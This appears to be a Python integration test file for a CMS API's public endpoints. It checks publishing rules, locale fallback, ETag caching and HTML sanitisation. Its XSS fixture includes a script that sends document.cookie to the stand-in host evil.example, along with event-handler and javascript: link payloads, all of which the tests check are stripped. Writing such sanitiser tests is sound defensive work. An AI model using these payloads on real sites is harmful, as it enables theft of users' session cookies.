"""Public reads: published only, locale fallback, sanitized HTML, ETag and 304."""

from __future__ import annotations

from html.parser import HTMLParser

from tests.integration.content.conftest import API, unique_slug

XSS_BODY = """# Offer

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src="x" onerror="alert(1)">

[Claim your prize](javascript:alert(1)) and <a href="JavaScript:alert(2)" onclick="steal()">here</a>

<div style="position:fixed" onmouseover="alert(3)">hover</div>
"""


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.found += [(tag, name, value) for name, value in attrs] or [(tag, "", None)]


async def test_published_legal_document_is_served(cms, cms_client):
    slug = unique_slug("terms")
    await cms.published_doc("legal", slug, title="Terms", body="# Terms\n\n**Binding**.")
    response = await cms_client.get(f"{API}/cms/legal/{slug}")
    body = await response.json()
    assert response.status == 200, body
    assert set(body) == {"slug", "title", "version", "locale", "body_html", "published_at"}
    assert (body["slug"], body["title"], body["version"], body["locale"]) == (slug, "Terms", 1, "en")
    assert "<h1>Terms</h1>" in body["body_html"] and "<strong>Binding</strong>" in body["body_html"]
    assert body["published_at"].endswith("Z")


async def test_unpublished_archived_and_unknown_are_404(cms, cms_client):
    draft_slug, archived_slug = unique_slug(), unique_slug()
    await cms.draft("legal", draft_slug)
    await cms.drive_to("legal", draft_slug, "approved")
    await cms.draft("legal", archived_slug)
    await cms.drive_to("legal", archived_slug, "archived")
    for path in (f"/cms/legal/{draft_slug}", f"/cms/legal/{archived_slug}", f"/cms/legal/{unique_slug()}",
                 "/cms/legal/Not..A..Slug", f"/cms/help/{draft_slug}", f"/cms/landing/{draft_slug}"):
        response = await cms_client.get(f"{API}{path}")
        assert response.status == 404, path
        assert (await response.json())["error"]["code"] == "cms_document_not_found"


async def test_a_new_draft_keeps_the_published_version_public(cms, cms_client):
    slug = unique_slug()
    await cms.published_doc("help", slug, title="Live")
    await cms.draft("help", slug, title="Work in progress")
    body = await (await cms_client.get(f"{API}/cms/help/{slug}")).json()
    assert (body["title"], body["version"]) == ("Live", 1)


async def test_stored_xss_renders_inert(cms, cms_client):
    slug = unique_slug("xss")
    await cms.published_doc("help", slug, title="<script>alert('title')</script>", body=XSS_BODY)
    response = await cms_client.get(f"{API}/cms/help/{slug}")
    body = await response.json()
    parser = _Attributes()
    parser.feed(body["body_html"])
    for tag, name, value in parser.found:
        assert tag not in {"script", "iframe", "svg"}, body["body_html"]
        assert not name.startswith("on") and name != "style", body["body_html"]
        if name in {"href", "src"}:
            assert not value.lower().startswith("javascript"), body["body_html"]
    assert "document.cookie" not in body["body_html"]
    assert "<h1>Offer</h1>" in body["body_html"] and ">here</a>" in body["body_html"]
    # The title is data: JSON carries it as the string it is, never as markup the API rendered.
    assert body["title"] == "<script>alert('title')</script>"


async def test_locale_falls_back_region_then_language_then_english(cms, cms_client):
    slug = unique_slug("privacy")
    await cms.published_doc("legal", slug, title="Privacy", locale="en")
    await cms.published_doc("legal", slug, title="Datenschutz", locale="de")
    await cms.draft("legal", slug, title="Datenschutz (AT, unpublished)", locale="de-AT")

    async def read(**params):
        response = await cms_client.get(f"{API}/cms/legal/{slug}", params=params.get("query", {}),
                                        headers=params.get("headers", {}))
        body = await response.json()
        assert response.status == 200, body
        return body["locale"], body["title"]

    assert await read(query={"locale": "de-AT"}) == ("de", "Datenschutz")
    assert await read(query={"locale": "de"}) == ("de", "Datenschutz")
    assert await read(query={"locale": "fr-CA"}) == ("en", "Privacy")
    assert await read() == ("en", "Privacy")
    assert await read(headers={"Accept-Language": "de-AT,de;q=0.9"}) == ("de", "Datenschutz")
    assert await read(query={"locale": "en"}, headers={"Accept-Language": "de"}) == ("en", "Privacy")
    response = await cms_client.get(f"{API}/cms/legal/{slug}", params={"locale": "<script>"})
    assert response.status == 422


async def test_etag_and_304(cms, cms_client):
    slug = unique_slug()
    await cms.published_doc("landing", slug, title="Home")
    url = f"{API}/cms/landing/{slug}"
    first = await cms_client.get(url)
    etag = first.headers["ETag"]
    assert first.status == 200 and etag.startswith('"')
    assert first.headers["Cache-Control"] == "public, max-age=60"

    again = await cms_client.get(url, headers={"If-None-Match": etag})
    assert again.status == 304 and again.headers["ETag"] == etag and await again.read() == b""
    assert (await cms_client.get(url, headers={"If-None-Match": f'"other", W/{etag}'})).status == 304
    assert (await cms_client.get(url, headers={"If-None-Match": '"stale"'})).status == 200

    await cms.draft("landing", slug, title="Home v2")
    await cms.publish("landing", slug, note="copy change")
    changed = await cms_client.get(url, headers={"If-None-Match": etag})
    assert changed.status == 200 and changed.headers["ETag"] != etag
    assert (await changed.json())["title"] == "Home v2"


async def test_cache_max_age_comes_from_settings(make_client, settings, login_as, cms_client, cms):
    from tests.integration.conftest import missing_tables

    slug = unique_slug()
    await cms.published_doc("legal", slug)
    tuned = settings.model_copy(update={"cms_cache_max_age_seconds": 5})
    client = await make_client(tuned, extra_routes=missing_tables(tuned))
    response = await client.get(f"{API}/cms/legal/{slug}")
    assert response.headers["Cache-Control"] == "public, max-age=5"


async def test_landing_page_bundle(cms, cms_client):
    slug = unique_slug("home")
    blocks = [
        {"type": "hero", "heading": "Custody", "markdown": "**Safe** <img src=x onerror=alert(1)>"},
        {"type": "cta", "label": "Join", "href": "/register", "html": "<b onclick='x()'>Join</b>"},
    ]
    await cms.published_doc("landing", slug, title="Home", body="Welcome", metadata={"blocks": blocks})
    body = await (await cms_client.get(f"{API}/cms/landing/{slug}")).json()
    assert set(body) == {"slug", "title", "version", "locale", "body_html", "published_at", "blocks"}
    assert body["blocks"][0]["heading"] == "Custody" and "<strong>Safe</strong>" in body["blocks"][0]["html"]
    assert "onerror" not in body["blocks"][0]["html"]
    assert body["blocks"][1] == {"type": "cta", "label": "Join", "href": "/register", "html": "<b>Join</b>"}
    assert body["body_html"] == "<p>Welcome</p>\n"

    status, refused = await cms.post(f"/admin/cms/landing/{slug}/draft",
                                     {"title": "t", "body": "b", "metadata": {"blocks": [{"no": "type"}]}})
    assert status == 422 and refused["error"]["code"] == "invalid_blocks"


async def test_help_list_searches_and_pages_in_the_best_locale(cms, cms_client):
    tag = unique_slug("kw")  # a word no other test's article contains
    slugs = [f"{tag}-{n}" for n in range(3)]
    await cms.published_doc("help", slugs[0], title=f"Deposits {tag}", body="How deposits work")
    await cms.published_doc("help", slugs[0], title=f"Einzahlungen {tag}", body="Wie", locale="de")
    await cms.published_doc("help", slugs[1], title="Withdrawals", body=f"Body mentions {tag.upper()}")
    await cms.published_doc("help", slugs[2], title=f"Draft only {tag}")
    await cms.draft("help", slugs[2], title="newer draft")  # still published: version 1
    hidden = f"{tag}-hidden"
    await cms.draft("help", hidden, title=f"Unpublished {tag}")

    response = await cms_client.get(f"{API}/cms/help", params={"query": tag, "locale": "de-AT"})
    body = await response.json()
    assert response.status == 200 and response.headers["ETag"]
    assert [(item["slug"], item["locale"]) for item in body["items"]] == [
        (slugs[0], "de"), (slugs[1], "en"), (slugs[2], "en"),
    ]
    assert body["items"][0]["title"] == f"Einzahlungen {tag}"

    first = await (await cms_client.get(f"{API}/cms/help", params={"query": tag, "limit": "2"})).json()
    assert [item["slug"] for item in first["items"]] == slugs[:2] and first["next_cursor"]
    rest = await (await cms_client.get(f"{API}/cms/help", params={"query": tag, "limit": "2",
                                                                   "cursor": first["next_cursor"]})).json()
    assert [item["slug"] for item in rest["items"]] == slugs[2:] and rest["next_cursor"] is None

    response = await cms_client.get(f"{API}/cms/help", params={"query": "%_"})  # wildcards are literal
    assert response.status == 200 and all("%_" in i["title"] for i in (await response.json())["items"])
    response = await cms_client.get(f"{API}/cms/help", params={"cursor": "garbage"})
    assert response.status == 422
